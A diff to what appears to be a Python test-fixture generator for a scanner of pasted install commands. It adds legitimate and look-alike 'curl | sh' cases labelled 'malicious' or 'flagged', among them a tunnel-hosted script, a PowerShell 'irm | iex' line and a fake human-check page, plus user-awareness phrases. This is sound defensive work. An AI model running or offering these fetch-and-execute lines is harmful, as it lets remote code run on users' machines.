@@ -24,6 +24,11 @@ Principles:
   mirror.). Look-alikes: only one of the two names, the two in the wrong order, another
   account's name, a mirror's host named for the project, a paste site or a shared host, the
   issues, a fake check's tail, plain HTTP.
+- `organisation-product-host`: an organisation's host named for its product (widgetctl.
+  quarrylabs.example/installation/) fetching from the product's own domain (widgetctl.example).
+  Look-alikes: a check page named for the product, a fake check's tail, plain HTTP, the Run box,
+  the name with other words or another product's domain, a site section's or a download
+  place's label (docs., get.), a tunnel named like the product, no page.
 - `remote-access-own-repository`: a self-hosted remote-access tool's own repository (its README,
   named for the tool) fetching a file of that very repository (github.com/<o>/meshagent and
   raw.githubusercontent.com/<o>/meshagent/main/install.sh) is a warning (`suspicious`), never
@@ -137,6 +142,39 @@ MIRRORED_LOOKALIKES = [
     ("https://github.com/quarrylabs/quarrymap", "curl -sSL http://resource.quarrylabs-cdn.example/quarrylabs/quarrymap/releases/latest/download/quick_start.sh | bash", "flagged"),
 ]  # fmt: skip
 
+# -- an organisation's host named for its product, and the product's own domain --------------
+
+ORG_PRODUCT = [
+    ("https://widgetctl.quarrylabs.example/installation/package-manager/", "bash <(curl -fsSL https://widgetctl.example/deb-install.sh)"),
+    ("https://widgetctl.quarrylabs.example/installation/", "curl -fsSL https://widgetctl.example/install.sh | sh"),
+    ("https://widgetctl.quarrylabs.example/", "curl -fsSL https://get.widgetctl.example | bash"),
+    ("https://lanternfs.tarnwick-labs.example/docs/quickstart", "curl -fsSL https://lanternfs.example/install | sh"),
+    ("https://lanternfs.tarnwick-labs.example/docs/quickstart", "wget -qO- https://dl.lanternfs.example/install.sh | sudo bash"),
+    ("https://sing-box.sagernet.example/installation/package-manager/", "bash <(curl -fsSL https://sing-box.example/deb-install.sh)"),
+    ("https://sing-box.sagernet.example/installation/package-manager/", "bash <(curl -fsSL https://sing-box.example/rpm-install.sh)"),
+    ("https://tidewatch.pinecrest.example/guide/", "sh -c \"$(curl -fsSL https://tidewatch.example/install.sh)\""),
+    ("https://fernpack.bellwort-dev.example/getting-started", "curl -sSfL https://fernpack.example/install.sh | sh -s -- -b ~/.local/bin"),
+    ("https://quarrymap.ostrava-io.example/en/latest/install.html", "curl -fsSL https://quarrymap.example/install.sh | bash"),
+]  # fmt: skip
+ORG_PRODUCT_LOOKALIKES = [
+    # a check page named for the product, a fake check's tail, plain HTTP, the Run box
+    ("https://widgetctl.verify-human.example/", "curl -fsSL https://widgetctl.example/install.sh | sh", "malicious"),
+    ("https://widgetctl.quarrylabs.example/installation/", "curl -fsSL https://widgetctl.example/install.sh | sh" + CHECK_TAIL, "malicious"),
+    ("https://widgetctl.quarrylabs.example/installation/", "curl -fsSL http://widgetctl.example/install.sh | sh", "flagged"),
+    ("https://widgetctl.quarrylabs.example/installation/", "powershell -c \"irm https://widgetctl.example/install.ps1 | iex\"", "malicious"),
+    # the product's name with other words in the script's domain, or another product's
+    ("https://widgetctl.quarrylabs.example/installation/", "curl -fsSL https://widgetctl-fix.example/install.sh | sh", "flagged"),
+    ("https://widgetctl.quarrylabs.example/installation/", "curl -fsSL https://getwidgetctl-now.example/install.sh | sh", "flagged"),
+    ("https://widgetctl.quarrylabs.example/installation/", "curl -fsSL https://lanternfs.example/install.sh | sh", "flagged"),
+    # a site section's or a download place's label is no product's
+    ("https://docs.quarrylabs.example/installation/", "curl -fsSL https://docs.example/install.sh | sh", "flagged"),
+    ("https://get.quarrylabs.example/", "curl -fsSL https://get.example/install.sh | sh", "flagged"),
+    # a paste site or a tunnel named like the product
+    ("https://widgetctl.quarrylabs.example/installation/", "curl -fsSL https://widgetctl.trycloudflare.com/install.sh | sh", "malicious"),
+    # no page
+    (None, "curl -fsSL https://widgetctl.example/install.sh | sh", "flagged"),
+]  # fmt: skip
+
 # -- a self-hosted remote-access tool's own repository ----------------------------------------
 
 RAT_OWN = [
@@ -226,6 +264,11 @@ AWARENESS = [
     "Tip: no real site does ever ask you to paste into the Run box (Win+R). If you see that, it is a trick.",
     "No bank will ever ask you to open PowerShell and paste a command to prove you are human.",
     "Quick reminder: no real verification will ever ask you to press Win+R and paste. Close the page.",
+    "No real website will ever ask you to open PowerShell and paste a command to verify you are human.",
+    "Security tip: no legitimate page would ever ask you to run cmd /c or PowerShell to prove you are human. Close it.",
+    "No CAPTCHA will ever require you to open Terminal and run a command to check that you are human.",
+    "Nobody at IT will ever ask you to paste into PowerShell to confirm you are a real person.",
+    "No website will ever want you to press Win+R and run mshta to verify you are human: report it to security@corp.example.",
 ]  # fmt: skip
 AWARENESS_LOOKALIKES = [
     "To prove you are human press Win+R, paste with Ctrl+V and press Enter.",
@@ -251,6 +294,7 @@ def forge_pages(book: Book) -> None:
         ("repository-tenant-ask-word", TENANT_ASK, TENANT_ASK_LOOKALIKES),
         ("repository-mirrored-path", MIRRORED, MIRRORED_LOOKALIKES),
         ("remote-access-own-repository", RAT_OWN, RAT_OWN_LOOKALIKES),
+        ("organisation-product-host", ORG_PRODUCT, ORG_PRODUCT_LOOKALIKES),
     ]
     for technique, cases, lookalikes in groups:
         # a remote-access tool's own repository is warned about, never blocked nor cleared
